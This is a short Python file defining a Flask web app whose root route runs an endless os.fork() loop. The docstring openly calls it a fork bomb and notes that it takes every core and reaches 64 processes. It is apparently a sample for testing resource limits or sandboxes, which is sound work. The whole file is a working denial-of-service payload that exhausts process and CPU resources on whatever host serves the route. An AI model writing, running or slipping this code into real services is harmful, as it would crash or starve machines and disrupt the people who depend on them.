"""Forks, and so do all its children: a fork bomb.

alone: it takes every core
told: 64 processes
"""

import os

from flask import Flask

app = Flask(__name__)


@app.get("/")
def index():
    while True:
        os.fork()
